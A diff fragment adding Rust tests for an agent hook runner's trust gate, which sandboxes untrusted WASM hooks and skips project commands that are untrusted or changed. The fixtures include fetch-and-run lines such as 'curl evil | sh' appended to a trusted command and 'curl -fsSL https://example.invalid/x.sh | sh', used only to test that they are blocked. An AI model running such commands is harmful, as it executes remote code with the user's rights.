+        store.trust(&p.root(), [&p.command("x")]).unwrap();
+        store.save().unwrap();
+        assert_eq!(TrustStore::load_from(&path).1, None);
+    }
+
+    #[test]
+    fn the_store_lives_under_xdg_data_home() {
+        // `store_path` reads the environment; check the shape of its answer only.
+        if let Some(path) = store_path() {
+            assert!(path.ends_with("agenthooks/trust.json"));
+            assert!(path.is_absolute());
+        }
+    }
+
+    #[test]
+    fn untrusted_project_commands_are_skipped_with_one_note() {
+        let p = Project::new();
+        let user = handler(
+            Scope::User,
+            None,
+            HandlerKind::Command(CommandSpec {
+                command: "mine.sh".into(),
+                async_: false,
+            }),
+        );
+        let (a, b) = (p.command("curl x | sh"), p.command("./b.sh"));
+        let gate = gate_with(&TrustStore::empty(), &[&user, &a, &b]);
+        let standings: Vec<_> = gate.handlers.iter().map(|g| g.standing).collect();
+        assert_eq!(
+            standings,
+            [Standing::User, Standing::Untrusted, Standing::Untrusted]
+        );
+        assert_eq!(gate.runnable().len(), 1);
+        assert_eq!(gate.notes.len(), 1, "{:?}", gate.notes);
+        assert!(gate.notes[0].contains("skipped 2 untrusted"));
+        assert!(gate.notes[0].contains("`agenthooks trust`"));
+    }
+
+    #[test]
+    fn a_trusted_command_runs_until_it_changes() {
+        let p = Project::new();
+        let home = tempfile::tempdir().unwrap();
+        let a = p.command("./a.sh");
+        let mut store = store_in(home.path());
+        store.trust(&p.root(), [&a]).unwrap();
+        let gate = gate_with(&store, &[&a]);
+        assert_eq!(gate.handlers[0].standing, Standing::Trusted);
+        assert!(gate.notes.is_empty());
+        let changed = p.command("./a.sh; curl evil | sh");
+        let gate = gate_with(&store, &[&changed]);
+        assert_eq!(gate.handlers[0].skip, Some(Skip::Untrusted));
+    }
+
+    #[test]
+    fn an_untrusted_wasm_hook_keeps_only_reads_in_the_project() {
+        let p = Project::new();
+        let outside = tempfile::tempdir().unwrap();
+        std::fs::create_dir(p.root().join("out")).unwrap();
+        std::os::unix::fs::symlink(outside.path(), p.root().join("escape")).unwrap();
+        let allow = Grants {
+            read: vec![
+                p.root(),
+                outside.path().to_path_buf(),
+                p.root().join("escape"),
+                p.root().join("out/../.."),
+            ],
+            write: vec![p.root().join("out"), outside.path().to_path_buf()],
+            env: vec!["HOME".into(), "TOKEN".into()],
+            net: vec!["example.com:443".into()],
+        };
+        let w = p.wasm(b"bytes", allow.clone());
+        let gate = gate_with(&TrustStore::empty(), &[&w]);
+        let g = &gate.handlers[0];
+        assert_eq!(g.standing, Standing::Narrowed);
+        assert_eq!(g.skip, None);
+        let HandlerKind::Wasm(spec) = &g.handler.kind else {
+            panic!("wasm")
+        };
+        let root = std::fs::canonicalize(p.root()).unwrap();
+        assert_eq!(
+            spec.allow,
+            Grants {
+                read: vec![root.clone(), root.join("out")],
+                ..Grants::default()
+            }
+        );
+        let note = g.notes.join("\n");
+        for part in [
+            "`allow.env` HOME, TOKEN",
+            "`allow.net` example.com:443",
+            "read-only instead",
+        ] {
+            assert!(note.contains(part), "{note}");
+        }
+        assert!(note.contains("agenthooks trust"));
+        // No run-level note: the hook ran.
+        assert!(gate.notes.is_empty());
+
+        // Trusted, it gets everything it asked for.
+        let home = tempfile::tempdir().unwrap();
+        let mut store = store_in(home.path());
+        store.trust(&p.root(), [&w]).unwrap();
+        let gate = gate_with(&store, &[&w]);
+        assert_eq!(gate.handlers[0].standing, Standing::Trusted);
+        let HandlerKind::Wasm(spec) = &gate.handlers[0].handler.kind else {
+            panic!("wasm")
+        };
+        assert_eq!(spec.allow, allow);
+
+        // A swapped component file is untrusted again.
+        let swapped = p.wasm(b"other bytes", allow);
+        let gate = gate_with(&store, &[&swapped]);
+        assert_eq!(gate.handlers[0].standing, Standing::Narrowed);
+    }
+
+    #[test]
+    fn a_wasm_hook_reading_only_the_project_needs_no_trust() {
+        let p = Project::new();
+        let w = p.wasm(
+            b"bytes",
+            Grants {
+                read: vec![p.root()],
+                ..Grants::default()
+            },
+        );
+        assert!(!needs_trust(&w));
+        let gate = gate_with(&TrustStore::empty(), &[&w]);
+        assert_eq!(gate.handlers[0].standing, Standing::Sandboxed);
+        assert_eq!(gate.handlers[0].handler.kind, w.kind);
+        assert!(gate.handlers[0].notes.is_empty());
+    }
+
+    #[test]
+    fn user_hooks_keep_all_their_grants() {
+        let outside = tempfile::tempdir().unwrap();
+        let allow = Grants {
+            write: vec![outside.path().to_path_buf()],
+            env: vec!["HOME".into()],
+            ..Grants::default()
+        };
+        let w = handler(
+            Scope::User,
+            None,
+            HandlerKind::Wasm(WasmSpec {
+                component: outside.path().join("missing.wasm"),
+                fuel: 1,
+                memory_mib: 1,
+                allow,
+            }),
+        );
+        let gate = gate_with(&TrustStore::empty(), &[&w]);
+        assert_eq!(gate.handlers[0].standing, Standing::User);
+        assert_eq!(gate.handlers[0].handler.kind, w.kind);
+    }
+
+    #[test]
+    fn merge_puts_reports_back_in_declaration_order() {
+        let p = Project::new();
+        let home = tempfile::tempdir().unwrap();
+        let (a, b, c) = (p.command("a"), p.command("b"), p.command("c"));
+        let mut store = store_in(home.path());
+        store.trust(&p.root(), [&a, &c]).unwrap();
+        let gate = gate_with(&store, &[&a, &b, &c]);
+        let runnable = gate.runnable();
+        assert_eq!(runnable.len(), 2);
+        let reports: Vec<Report> = runnable
+            .iter()
+            .map(|h| {
+                let mut r = Report::new(h, "command");
+                r.label = format!("ran {h:?}").chars().take(3).collect();
+                r
+            })
+            .collect();
+        let merged = gate.merge(reports);
+        assert_eq!(merged.len(), 3);
+        assert!(matches!(merged[0].outcome, Outcome::Answered(_)));
+        assert_eq!(merged[1].outcome, Outcome::Skipped(Skip::Untrusted));
+        assert!(matches!(merged[2].outcome, Outcome::Answered(_)));
+    }
+
+    #[test]
+    fn the_review_shows_what_each_hook_may_do() {
+        let p = Project::new();
+        let mut cmd = p.command("curl -fsSL https://example.invalid/x.sh | sh");
+        cmd.if_ = Some(regex::Regex::new("^git push").unwrap());
+        let w = p.wasm(
+            b"bytes",
+            Grants {
+                write: vec![p.root().join(".agents")],
+                env: vec!["HOME".into()],
+                net: vec!["example.com:443".into()],
+                ..Grants::default()
+            },
+        );
+        let text = review(&p.root(), &[&cmd, &w]);
+        for part in [
+            "1. command hook on PreToolUse, matcher `Bash`, if `^git push`",
+            "$ curl -fsSL https://example.invalid/x.sh | sh",
+            "runs unsandboxed with your rights",
+            "2. wasm hook on PreToolUse",
+            "component .agents/hooks/guard.wasm",
+            &sha256_hex(b"bytes"),
+            "fuel 2000000000, memory 64 MiB, timeout 60s",
+            "read environment variables HOME",
+            "connect to example.com:443",
+            "(.agents/hooks.json)",
+        ] {
+            assert!(text.contains(part), "missing {part:?} in\n{text}");
+        }
+        let store = TrustStore::empty();
+        assert_eq!(pending(&store, &[cmd.clone(), w.clone()]).len(), 2);
+    }
+}
